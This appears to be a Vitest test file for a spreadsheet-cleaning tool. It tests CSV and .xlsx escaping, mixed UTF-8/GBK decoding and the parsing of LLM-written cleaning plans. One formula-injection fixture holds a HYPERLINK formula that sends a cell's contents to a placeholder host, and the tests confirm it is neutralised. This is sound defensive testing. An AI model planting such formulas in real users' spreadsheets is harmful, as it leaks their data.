import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import iconv from 'iconv-lite';
import JSZip from 'jszip';
import { startMockLlm, type MockLlm } from '../../support/mock-llm';
import { applyPlan } from '../../../src/sheets/apply-plan';
import { parsePlan } from '../../../src/sheets/validate-plan';
import { profileTable } from '../../../src/sheets/profile';
import { readCsv, toCsv } from '../../../src/sheets/read-csv';
import { applySummary, suggestionReport } from '../../../src/sheets/render';
import { suggestPlan } from '../../../src/sheets/suggest-plan';
import { encodeTable } from '../../../src/sheets/write-table';
import { isFormulaLike } from '../../../src/sheets/formula-guard';
import { translate, type MessageKey } from '../../../src/locales';
import type { Table } from '../../../src/sheets/table';

const t = (key: MessageKey, params?: Record<string, string | number>) => translate('en-US', key, params);

let llm: MockLlm;
beforeAll(async () => {
  llm = await startMockLlm();
});
afterAll(async () => {
  await llm?.close();
});

describe('formula injection (OWASP): nothing written opens as a formula', () => {
  const table: Table = {
    headers: ['name', '=HEADER()'],
    rows: [
      ['=HYPERLINK("http://x/?"&A1,"click")', '+1+2'],
      ['@SUM(A1)', '-2+3'],
      ['\tTAB', '\rCR'],
      ['-12.5', '+3%'],
      ['plain', '1,234'],
    ],
  };

  it('CSV cells a spreadsheet would evaluate get a leading apostrophe; plain numbers stay numbers', () => {
    const csv = toCsv(table, false);
    expect(csv.split('\r\n')).toEqual([
      'name,"\'=HEADER()"',
      '"\'=HYPERLINK(""http://x/?""&A1,""click"")","\'+1+2"',
      '"\'@SUM(A1)","\'-2+3"',
      '"\'\tTAB","\'\rCR"',
      '-12.5,+3%',
      'plain,"1,234"',
    ]);
    expect(['-12.5', '+3%', '1e5', '-.5'].map(isFormulaLike)).toEqual([false, false, false, false]);
  });

  it('.xlsx writes such text as text cells, never as formulas', async () => {
    const bytes = await encodeTable('out.xlsx', table, 'Sheet1');
    const zip = await JSZip.loadAsync(bytes);
    const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheet).not.toContain('<f>');
    const strings = await zip.file('xl/sharedStrings.xml')!.async('string');
    expect(strings).toContain('=HYPERLINK');
  });
});

describe('a CSV that mixes UTF-8 and GBK', () => {
  it('is read line by line in each line’s own encoding, with a warning naming the GBK lines — never as mojibake', async () => {
    const utf8 = Buffer.from('地区,金额\n华东,100\n', 'utf8');
    const gbk = iconv.encode('华南,200\n西北,300\n', 'gbk');
    const r = await readCsv(new Uint8Array(Buffer.concat([utf8, gbk])));
    expect(r.table.rows).toEqual([
      ['华东', '100'],
      ['华南', '200'],
      ['西北', '300'],
    ]);
    expect(r.encoding).toBe('mixed');
    expect(r.warnings.map((w) => t(w.key, w.params))).toEqual([
      'The file mixes two encodings: 2 lines (3, 4) are GBK, the rest UTF-8. Each line was read in its own encoding; check those rows, and save the file as UTF-8 to avoid this.',
    ]);
  });

  it('a file that is all GBK, or all UTF-8, is read as such without a warning', async () => {
    expect((await readCsv(new Uint8Array(iconv.encode('地区,金额\n华南,200\n', 'gbk')))).warnings).toEqual([]);
    expect((await readCsv(new Uint8Array(Buffer.from('地区\n华东\n')))).encoding).toBe('utf-8');
  });
});

describe('cleaning plans as models write them', () => {
  const table: Table = {
    headers: [' 地区 ', '金额', '备注'],
    rows: [
      [' 华东 ', '12', ' x '],
      ['华南', '1,200', 'y'],
    ],
  };

  it('"columns":["*"] means every column, like "*"', () => {
    const r = applyPlan(table, { steps: [{ op: 'trim', columns: ['*'] }] });
    expect(r.table.rows).toEqual([
      ['华东', '12', 'x'],
      ['华南', '1,200', 'y'],
    ]);
  });

  it('plausible spellings are accepted; the rest is refused naming the step', () => {
    const plan = parsePlan({
      steps: [
        { op: 'Trim', column: 'all' },
        { op: 'fill_missing', columns: ['金额'], method: 'ffill' },
        { op: 'standardize_case', column: '备注', case: 'UPPERCASE' },
        { op: 'filter', column: '金额', operator: '!=', value: '0' },
        { op: 'drop_duplicates', subset: '*' },
      ],
    });
    expect(plan.steps).toEqual([
      { op: 'trim', columns: '*' },
      { op: 'fillMissing', column: '金额', strategy: 'previous' },
      { op: 'standardizeCase', column: '备注', to: 'upper' },
      { op: 'filterRows', column: '金额', where: 'ne', value: '0' },
      { op: 'dedupe' },
    ]);
    expect(() =>
      parsePlan({
        steps: [
          { op: 'trim', columns: '*' },
          { op: 'explode', column: 'x' },
        ],
      }),
    ).toThrow(
      expect.objectContaining({
        key: 'sheets.error.planInvalid',
        params: expect.objectContaining({ details: expect.stringMatching(/^step 2: unknown op "explode"/) }),
      }),
    );
    expect(() => parsePlan({ steps: [{ op: 'parseNumber', columns: ['金额', '备注'] }] })).toThrow(
      expect.objectContaining({
        params: expect.objectContaining({ details: expect.stringContaining('step 1 (parseNumber) works on one "column", but names 2') }),
      }),
    );
  });

  it('change counts count cells whose text changed, not cells visited', () => {
    const r = applyPlan(table, {
      steps: [
        { op: 'parseNumber', column: '金额' },
        { op: 'mapValues', column: '备注', mapping: { y: 'y' } },
        { op: 'trim', columns: '*', enabled: false },
      ],
    });
    // "12" → 12 reads the same; "1,200" → 1200 does not.
    expect(r.reports.map((x) => x.cellsChanged)).toEqual([1, 0, 0]);
    expect(applySummary(r.reports, t)).toBe('2 of 3 steps applied; 1 skipped because they are turned off.');
  });

  it('a suggestion says how many steps it kept and why each other was left out (CLI and pane print the same lines)', async () => {
    llm.setHandler(() => ({
      content: JSON.stringify({
        steps: [
          { op: 'trim', columns: ['*'] },
          { op: 'parseNumber', column: '价格' },
          { op: 'explode', column: '金额' },
          { op: 'to_number', column: '金额' },
        ],
      }),
    }));
    const r = await suggestPlan(llm.settings, table, profileTable(table), { locale: 'en-US' });
    expect(r.plan.steps).toEqual([
      { op: 'trim', columns: '*' },
      { op: 'parseNumber', column: '金额' },
    ]);
    expect(suggestionReport(r, t)).toEqual([
      'The model proposed 4 steps: 2 are in the plan, 2 were left out. Nothing has been applied yet.',
      'Step 2 (parseNumber) left out: it names the column “价格”, which the table does not have at that point (columns:  地区 , 金额, 备注).',
      'Step 3 (explode) left out: unknown op "explode" (known: trim, toHalfWidth, nullify, parseDate, parseNumber, dedupe, fillMissing, mapValues, replaceText, standardizeCase, splitColumn, renameColumn, dropColumns, filterRows).',
    ]);
  });
});
